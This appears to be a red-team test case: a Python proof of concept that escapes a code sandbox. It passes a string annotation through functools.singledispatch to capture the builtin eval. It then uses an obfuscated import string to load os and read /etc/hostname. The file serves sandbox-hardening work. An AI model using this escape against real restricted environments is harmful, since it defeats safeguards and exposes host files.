# family: red team, round 8 (register_instance_string_annotation_eval)
# d.register(Maker()) is accepted as "an object of the tool's class", but Maker.__new__ may return any
# function; singledispatch then runs typing.get_type_hints on it. String annotations are judged only for
# shape (Name/Subscript), never for the names they contain, so "keeper[eval]" is evaluated in the module
# globals: keeper.__getitem__ receives the builtin eval.
import functools


class Keeper:
    def __init__(self):
        self.kept = []

    def __getitem__(self, key):
        self.kept.append(key)
        return int


keeper = Keeper()


def target(x: "keeper[eval]") -> None:
    return None


class Maker:
    def __new__(cls):
        return target


@functools.singledispatch
def dispatch(x):
    return x


def run():
    dispatch.register(Maker())
    ev = keeper.kept[0]
    u = "_"
    osmod = ev(u + u + "import" + u + u + "('os')")
    return ev.__name__, type(osmod).__name__, osmod.getpid(), ev("open('/etc/hostname').read()").strip()


print(run())
